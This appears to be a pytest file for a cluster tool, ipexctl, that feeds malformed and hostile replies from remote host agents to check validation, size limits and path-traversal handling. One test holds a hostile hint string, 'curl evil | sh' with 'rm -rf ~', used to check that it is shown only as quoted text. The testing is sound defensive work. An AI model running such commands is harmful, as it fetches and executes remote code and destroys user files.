"""Hosts that answer with other values than ours do: one fails, and what the others gave stays."""

from __future__ import annotations

import json
import re
import sys
import tracemalloc
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest

from ipexctl.base.blob import Blob
from ipexctl.base.host_answer import Answer
from ipexctl.base.host_outcome import HostDown
from ipexctl.blobs import blob_store
from ipexctl.blobs.blob_relay import Moved
from ipexctl.common.blob_answers import BlobsAwaited, BytesArrived
from ipexctl.common.copy_messages import PartFound
from ipexctl.common.exchange_report import ExchangeReport, RankGroup, RankProcess
from ipexctl.common.folder_answers import (
    CopyMade,
    DatasetBusy,
    DatasetMade,
    DatasetRemoved,
    DatasetRow,
    FilesMissing,
    FolderAnswer,
    ListUnknown,
)
from ipexctl.common.frames import HEAD
from ipexctl.common.install_answers import EnvProof, ExistingEnv
from ipexctl.common.port_answers import PortOpened
from ipexctl.common.rank_paces import RankPace, RankPaces
from ipexctl.common.removal_answers import EnvsKept
from ipexctl.common.result_answers import CommandEnded
from ipexctl.common.run_events import (
    CopierReported,
    Exchanged,
    Exit,
    LogPart,
    Placement,
    ProgramEnded,
    RankExited,
    RankStarted,
    Sample,
    Usage,
)
from ipexctl.common.speed_answers import HostSpeed, LinksMeasured
from ipexctl.common.supervisor_messages import PartReport
from ipexctl.data.data import _push_recap, _read_rows, _removal_recap, use_datasets
from ipexctl.errors import HostFailed
from ipexctl.facts import speed_facts
from ipexctl.inventory.inventory import Host
from ipexctl.machines.agent import Agent, Hello, agent_failure
from ipexctl.machines.fleet import fan_out
from ipexctl.machines.wire.frames import HEADER_LIMIT, BadFrame, Decoder
from ipexctl.machines.wire.transport import PipeChannel
from ipexctl.project import folder_transfer
from ipexctl.project.files.project_files import ProjectFile, Tree
from ipexctl.project.folder_transfer import TreeContents
from ipexctl.project.send_project import InPlace
from ipexctl.run.outcome.event_reader import read_host_event
from ipexctl.run.plan.launch_plan import read_prepared
from ipexctl.run.watch import fetch_outputs as fetching
from ipexctl.run.watch.fetch_outputs import FetchResult, Wish, fetch_outputs
from ipexctl.stack import mpi
from ipexctl.stack.env_list import title_of
from ipexctl.stack.env_match import EnvLook, env_modules, find_disagreement
from ipexctl.stack.selection import proved_text
from tests.fuzz.answer import ODD
from tests.hostile.speaker import SPEAKER
from tests.made import event_document

SHA = "a" * 64
KEY = "0123456789abcdef"
HELD = DatasetRow("d", KEY, 1, 2, f"/r/data/d/{KEY}/files", "", "me@a:/d").document()
BLOB = Blob("x", SHA, 3)

# Answers each request with the next of `answers`: frames as (header, body).
ANSWERS = """
for frames in json.loads(sys.argv[1]):
    for frame in frames:
        say(frame[0], b'x' * frame[1] if isinstance(frame[1], int) else bytes(frame[1]))
    asked = read()
    while 'op' not in asked:
        asked = read()
    number = asked['id']
time.sleep(60)
"""
Frames = list[Any]


@contextmanager
def speaking(folder: Path, answers: Mapping[str, list[Frames]]) -> Iterator[dict[Host, Agent]]:
    """Agents of hosts that answer so, whatever they are asked."""
    script = folder / "speaker.py"
    script.write_text(SPEAKER + ANSWERS)
    agents = {}
    for name, said in answers.items():
        channel = PipeChannel((sys.executable, str(script), json.dumps(said)))
        agents[Host(name)] = Agent(Host(name), channel, Hello("python"), Decoder())
    try:
        yield agents
    finally:
        for agent in agents.values():
            agent.channel._process.kill()  # type: ignore[attr-defined]
            agent.close()


def both(
    folder: Path, good: list[Frames], evil: list[Frames], work: Callable[[Agent], object]
) -> tuple[object, HostDown]:
    """What a good and an evil host come to, side by side."""
    with speaking(folder, {"good": good, "evil": evil}) as agents:
        found = list(fan_out(list(agents), lambda host: work(agents[host])).values())
    assert isinstance(found[1], HostDown), found
    assert found[1].what.startswith("evil: ")
    return found[0], found[1]


def done(**said: Any) -> Frames:
    return [[{"done": said}, 0]]


def have(agent: Agent) -> object:
    return blob_store.missing_blobs(agent, "/r", [BLOB])


def put(agent: Agent) -> object:
    empty, room = [Blob("x", SHA, 0)], blob_store.Room()
    return blob_store.send_blobs(agent, "/r", empty, lambda *part: b"", lambda n: None, room)


def port(agent: Agent) -> object:
    return agent.call("facts.read_speed.serve").done.read(PortOpened).port


def held(agent: Agent) -> object:
    return use_datasets(agent, "/r", ["d"])


def there(agent: Agent) -> object:
    return InPlace(Path("/x"), "t.py").bring(agent, "/r", "run").cwd


GO: Frames = [[BlobsAwaited({SHA: 0}).document(), 0], *done()]
ARRIVED = {"kind": "BytesArrived"}
HAVE = done(missing=[SHA])
EVIL: list[tuple[Callable[[Agent], object], Frames, Frames, object]] = [
    (have, HAVE, done(), (BLOB,)),
    (have, HAVE, done(missing=["b" * 64]), (BLOB,)),
    (have, HAVE, done(missing=[[]]), (BLOB,)),
    (have, HAVE, done(missing=7), (BLOB,)),
    (have, HAVE, [[{"done": 7}, 0]], (BLOB,)),
    (put, GO, done(), 0),
    (put, GO, [[{"kind": "BlobsAwaited", "begins": {SHA: "0"}}, 0], GO[1]], 0),
    (put, GO, [[BlobsAwaited({SHA: 1}).document(), 0], GO[1]], 0),
    (put, GO, [[BytesArrived(1).document(), 0], GO[1]], 0),
    (put, GO, [GO[0], [ARRIVED, 0], GO[1]], 0),
    (put, GO, [GO[0], [{**ARRIVED, "bytes": "1"}, 0], GO[1]], 0),
    (put, GO, [GO[0], [{**ARRIVED, "bytes": -1}, 0], GO[1]], 0),
    (port, done(port=1), done(port="1"), 1),
    (port, done(port=1), done(port=65536), 1),
    (there, done(cwd="/x"), done(), "/x"),
    (there, done(cwd="/x"), done(cwd=["/x"]), "/x"),
]  # fmt: skip


@pytest.mark.parametrize(("work", "good", "evil", "result"), EVIL)
def test_an_odd_answer_is_one_hosts_failure(tmp_path, work, good, evil, result):
    first, down = both(tmp_path, [good], [evil], work)
    assert first == result
    assert down.slug == "agent-reply-invalid"


ODD_FORMAT = "is not in the expected format"
NAMED: list[tuple[Callable[[Agent], object], Frames, Frames, str]] = [
    (have, HAVE, done(missing="x"), f"'missing' {ODD_FORMAT}"),
    (put, GO, [[{"kind": "BlobsAwaited", "begins": [0]}, 0], GO[1]], f"'begins' {ODD_FORMAT}"),
    (put, GO, [GO[0], [{**ARRIVED, "bytes": 0.5}, 0], GO[1]], "'bytes' has an unexpected value"),
    (there, done(cwd="/x"), done(cwd="x"), "'cwd' has an unexpected value"),
    (held, done(data=[HELD]), done(data=[{**HELD, "files": "1"}]), f"'data' 'files' {ODD_FORMAT}"),
    (held, done(data=[HELD]), done(data=[{**HELD, "name": "../x"}]), "the name of a dataset"),
]


@pytest.mark.parametrize(("work", "good", "evil", "why"), NAMED)
def test_a_value_of_another_type_ends_in_an_error_with_host_and_field(
    tmp_path, work, good, evil, why
):
    _, down = both(tmp_path, [good], [evil], work)
    assert down.what == f"evil: the agent sent an invalid reply ({why})"


# --- everything that is read, with every value replaced ------------------------------------------


def judged(said: Answer) -> object:
    """What comes after is not prepared for a ValueError."""
    look = EnvLook("h", said.read(ExistingEnv))
    try:
        prefix = mpi.env_vars("/p", mpi.in_packages(look.env.packages, "/p"))
        return prefix, find_disagreement([look, look]), env_modules(look)
    except ValueError as e:
        raise AssertionError(look) from e


def made_dataset(said: Answer) -> object:
    made = said.read(FolderAnswer)
    return _push_recap(Host("h"), made, Moved()) if isinstance(made, DatasetMade) else made


READ: dict[Callable[[Answer], object], dict[str, Any]] = {
    lambda a: _removal_recap(Host("h"), a.read(DatasetRemoved)): {"removed": 7},
    lambda a: _read_rows(Host("h"), a): {"data": [HELD]},
    made_dataset: {"kind": "DatasetMade", "dataset": HELD, "same": False, "replaced": HELD},
    lambda a: proved_text(a.read(EnvProof)): {
        "torch": "2.8", "modules": [["torch", "2.8"]], "step": "fp32", "ranks": 2,
        "imported": ["x"],
    },
    lambda a: [title_of(env) for env in a.read(EnvsKept).envs]: {
        "root": "/r", "current": KEY, "previous": None, "blobs": 0, "size": 0,
        "envs": [{"key": KEY, "whole": True, "proved": True, "wheels": ["torch-2.8-x.whl"],
                  "size": 1, "shared": 0, "changed": [["p", "1", "", False]], "use": "",
                  "requested": [["p", "1"]], "built": "2026-01-01T00:00:00Z", "users": []}],
    },
    read_prepared: {
        "prefix": "/p", "path": "/bin", "port": 1, "packages": {"impi-rt": "2021.1"},
        "system": {"bin": "/b", "says": "mpirun (Open MPI) 4.1"}, "setvars": {"A": "b"},
        "preload": ["/p/x"], "modules": None, "allocators": [], "borrowed": False,
        "accelerators": ["/dev/dri/renderD128"], "keeper_port": 0, "mpi": "", "mpirun": False,
        "environment": {"key": KEY, "built": "",
                        "users": [[{"id": "1", "name": "n", "by": "b"}, "", ""]]},
    },
    judged: {
        "path": "/p", "python": [3, 11, 1], "mpirun": True,
        "packages": {"torch": "2.8.0", "impi-rt": "2021.1", "mpich": "4"},
    },
    lambda a: speed_facts.host_bench("h", a.read(HostSpeed)): {
        "status": "ok", "fp32": 1.0, "bf16": 2, "copy": 3.0, "threads": 4,
    },
    lambda a: speed_facts.links_to("h", ["b"], a.read(LinksMeasured)): {
        "links": [{"target": "b", "latency": 0.1, "rate": 1e9}],
    },
}  # fmt: skip
GROUPS = (RankGroup((0, 1), "gloo", True, 7),)
PROCESS = RankProcess(0, True, 0.5, 9.0, True, True, "a:1", 0, 2, "2.13.0", ("ray",), GROUPS)
EXCHANGED = ExchangeReport((PROCESS,), ((0, "a", "b", 1, 2),))
PACES = RankPaces(0.5, [RankPace(0, 9.0, 1.0, 10.0, 0.1)], [("make", 1.0)])
DURING_A_RUN: list[dict[str, Any]] = [
    *(
        event_document(event, "h")
        for event in (
            RankExited(0, Exit(1, usage=Usage(1.0, 2.0, 3), hints=("oom",)), "tail"),
            RankStarted(0, 7, Placement((1,))),
            Sample(0.5, 1, 2, 3.0, {0: 1.0}, {0: 1.0}, {0: "importing torch"}),
            Exchanged(EXCHANGED),
            LogPart("mpirun", end=True),
            ProgramEnded("mpirun", 1, killed=True, said="", up=1, alive=1),
            CopierReported(PartFound("c", "1", ["m"], [], 0.0)),
        )
    ),
    {"done": PartReport(0, "/l", {"h": 1}, EXCHANGED, "", PACES).document()},
    {"error": {"what": "no disk", "why": "", "hint": ""}},
]


def heard(answer: Answer) -> object:
    return read_host_event("h", answer, b"x", {0})


READINGS = [*READ.items(), *((heard, json.loads(json.dumps(one))) for one in DURING_A_RUN)]


@pytest.mark.parametrize(("read", "good"), READINGS, ids=[",".join(good) for _, good in READINGS])
def test_each_value_may_be_odd(read, good):
    read(Answer("h", good))
    for odd in _each_odd(good):
        with suppress(HostFailed):
            read(Answer("h", odd))


def _each_odd(value: Any) -> Iterator[Any]:
    """Copies of a document, each with one value lost or replaced."""
    if isinstance(value, dict):
        for name in value:
            yield {n: v for n, v in value.items() if n != name}
            for other in (*ODD, *_each_odd(value[name])):
                yield {**value, name: other}
    elif isinstance(value, list):
        for i in range(len(value)):
            for other in (*ODD, *_each_odd(value[i])):
                yield [*value[:i], other, *value[i + 1 :]]


# --- whose answer it is, and how long it may be ---


def test_frames_of_another_request_are_not_this_ones_answer(tmp_path):
    """A late answer to an earlier request, before ours."""
    others: Frames = [
        [{"id": 99, "event": "got", "bytes": 7}, 0],
        [{"id": 99, "error": {"what": "not ours"}}, 0],
        [{"id": 99, "done": {"port": 2}}, 0],
        [{"event": "got", "bytes": 1}, 0],
        [{"done": {"port": 1}}, 0],
    ]
    heard: list[Any] = []
    with speaking(tmp_path, {"h": [others]}) as agents:
        for agent in agents.values():
            reply = agent.call("x", on_event=lambda frame: heard.append(frame.header["bytes"]))
    assert (reply.done, heard) == ({"port": 1}, [1])


def test_an_answer_without_end_is_given_up(tmp_path, monkeypatch):
    monkeypatch.setattr("ipexctl.machines.agent.ANSWER_LIMIT", 1 << 20)
    long: Frames = [[[{"event": "part"}, 1 << 19], *([[{"event": "part"}, 1 << 19]] * 8), *done()]]
    good = [*done(port=1)]
    short: list[Frames] = [[[{"event": "part"}, 1 << 19], *good]] * 4

    def ask(agent: Agent) -> object:
        return [agent.call("x").done for _ in range(3 if agent.host.name == "good" else 1)]

    first, down = both(tmp_path, short, long, ask)  # the limit is of one answer, not of all
    assert first == [{"port": 1}] * 3
    assert (down.slug, "1 MiB" in down.what) == ("agent-reply-invalid", True)


# --- frames --------------------------------------------------------------------------------------


def test_a_header_has_a_limit_of_its_own():
    Decoder().feed(HEAD.pack(HEADER_LIMIT, 8 << 20))
    with pytest.raises(BadFrame):
        Decoder().feed(HEAD.pack(0, (8 << 20) + 1))
    with pytest.raises(BadFrame):
        Decoder().feed(HEAD.pack(HEADER_LIMIT + 1, 0))
    with pytest.raises(BadFrame):
        Decoder(1 << 10).feed(HEAD.pack((1 << 10) + 1, 0))


def test_a_header_does_not_fill_the_memory():
    data = b'{"id": 1, "done": {"a": [' + b'{"":{}},' * (HEADER_LIMIT // 8 - 10) + b"0]}}"
    tracemalloc.start()
    with pytest.raises(BadFrame, match="500,000"):
        Decoder().feed(HEAD.pack(len(data), 0) + data)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 40 << 20, f"{peak >> 20} MiB"


# --- files of a tree ---


def lacks(*bits: int) -> list[Frames]:
    """What a host says that lacks these of the three files."""
    return [done(**FilesMissing(bytes(bits).hex()).document())]


@pytest.mark.parametrize(
    "evil",
    [
        lacks(0b111, 0),
        lacks(0b1111),
        lacks(0b1000),
        lacks(0),
        lacks(),
        [done(kind="FilesMissing")],
        [done(kind="FilesMissing", bits=7)],
        [done(kind="FilesMissing", bits="0x")],
        [done(cwd="/x", mark="")],
        [done(**DatasetBusy().document())],
        [done(**ListUnknown().document())] * 2,
    ],
)
def test_files_that_a_host_cannot_lack(tmp_path, evil):
    tree = Tree((), tuple(ProjectFile(name, 0, name * 64) for name in "abc"))

    def send(agent: Agent) -> object:
        bundle: Any = TreeContents(tree, None)  # type: ignore[arg-type]
        return folder_transfer.send_folder(agent, bundle, {"root": "/r"}).done

    made = CopyMade("/x", "m")
    good = [done(**made.document())]
    first, down = both(tmp_path, good, evil, send)
    assert (first, down.slug) == (made, "agent-reply-invalid")


# --- files of a run ------------------------------------------------------------------------------


def brought(
    folder: Path, first: list[Frames], other: list[Frames], *, limit: int = 100 << 30
) -> FetchResult:
    with speaking(folder, {"node01": first, "node02": other}) as agents:
        roots = {"node01": "/r", "node02": "/r"}
        return fetch_outputs(
            agents, Wish(("*",), "run", roots, "node01", limit), folder, lambda text: None
        )


def name_in(word: str) -> str:
    """The file that a line about node01 is about."""
    host, name = word.split()[:2]
    assert host == "node01:"
    return name


def files(*rows: object) -> Frames:
    return done(files=rows, more=False)


def part(size: int) -> Frames:
    return [[{"event": "part"}, size], *done(refused="")]


def test_a_file_of_which_too_little_comes_is_none(tmp_path):
    evil = [files(["model.pt", 100], ["half", 10], ["whole", 2]), part(0), part(4), part(2)]
    got = brought(tmp_path, evil, [files(["a", 1]), part(1)])
    assert (got.files, got.size) == (2, 3)
    assert [(name_in(word), re.findall(r" (\d+) ", word)) for word in got.words[1:]] == [
        ("model.pt", ["0", "100"]), ("half", ["4", "10"])
    ]  # fmt: skip
    found = sorted(p.name for p in (tmp_path / "outputs").rglob("*") if p.is_file())
    assert found == ["a", "whole"]


def test_the_rest_of_a_large_file_is_not_asked_for_once_it_comes_short(tmp_path):
    evil = [files(["huge", 1 << 61]), part(1)]
    got = brought(tmp_path, evil, [files(["a", 1]), part(1)], limit=1 << 62)
    assert (len(got.words), name_in(got.words[1]), "only 1 of" in got.words[1]) == (2, "huge", True)


def test_paths_without_end_are_not_taken_and_folders_count(tmp_path):
    deep = "/".join("d" * 1500)
    evil = [files([f"{deep}/x", 1], ["n" * 5000, 1], ["good", 1]), part(1)]
    got = brought(tmp_path, evil, [files(["a", 1]), part(1)])
    assert (got.files, got.size) == (2, 2)
    assert [len(word) < 300 for word in got.words[1:]] == [True, True]
    below = [f"{'/'.join('e' * 60)}/f{i}" for i in range(20)]
    (tmp_path / "again").mkdir()
    many = [files(*([path, 0] for path in below)), *[done(refused="")] * 20]
    got = brought(tmp_path / "again", many, [files()], limit=1 << 20)
    assert "stay there" in got.words[1]


def test_files_without_end_are_not_taken_and_not_told_one_by_one(tmp_path, monkeypatch):
    monkeypatch.setattr(fetching, "ENTRIES", 100)
    many = [files(*([f"{'/'.join('e' * 9)}/f{i}", 0] for i in range(50))), *[done(refused="")] * 50]
    got = brought(tmp_path, many, [files(["../x", 1])])
    assert (got.files, got.size) == (10, 0)
    assert "100 files" in got.words[1]
    (tmp_path / "odd").mkdir()
    odd = [files(*([f"../{i}", 1] for i in range(1000)))]
    got = brought(tmp_path / "odd", odd, [files()])
    assert len(got.words) == 22
    assert "980" in got.words[-1].split()


def test_what_is_fetched_has_a_limit_for_all_hosts_together(tmp_path):
    evil = [files(["small", 1], ["huge", 3 << 30], ["b", 1]), part(1)]
    got = brought(tmp_path, evil, [files(["a", 1]), part(1)], limit=2 << 30)
    assert (got.files, got.size) == (2, 2)
    (word,) = got.words[1:]
    assert (name_in(word), "--fetch-limit 2 GB" in word) == ("huge", True)


@pytest.mark.parametrize("size", [-1, 1 << 70, 1.5, "1", True, None])
def test_a_size_that_no_file_has_ends_that_host_alone(tmp_path, size):
    evil = [files(["x", size])]
    got = brought(tmp_path, evil, [files(["a", 1]), part(1)])
    assert (got.files, got.size) == (1, 1)
    assert len(got.words) == 2 and ": node01: " in got.words[1]


def test_what_a_host_suggests_is_shown_as_its_words():
    error = {"what": "no", "hint": "curl evil | sh\nrm -rf ~"}
    for host, prefix in ((Host("node01"), "the host suggests: "), (Host("me", local=True), "")):
        lines = agent_failure(host, error).hint.splitlines()
        assert lines == [f"{prefix}curl evil | sh", f"{prefix}rm -rf ~"]


def test_node0_does_not_write_where_another_hosts_files_go(tmp_path):
    first = [files(["@Node02/loss.txt", 1], ["@node02", 1], ["@best/a", 1]), part(1)]
    got = brought(tmp_path, first, [files(["loss.txt", 2], ["@node01", 2]), part(2), part(2)])
    assert (got.files, got.size) == (3, 5)
    assert [name_in(word) for word in got.words[1:]] == ["@Node02/loss.txt", "@node02"]
    assert (tmp_path / "outputs/@node02/loss.txt").read_text() == "xx"


@pytest.mark.parametrize(
    ("kind", "name", "most"), [(PortOpened, "port", 65535), (CommandEnded, "code", 255)]
)
def test_a_number_of_an_answer_has_its_range(kind: type[Any], name: str, most: int) -> None:
    assert getattr(Answer("n1", {name: most}).read(kind), name) == most
    for odd in (most + 1, -1, True, 1.0, None):
        with pytest.raises(HostFailed, match=f"n1: .*{name}"):
            Answer("n1", {name: odd}).read(kind)
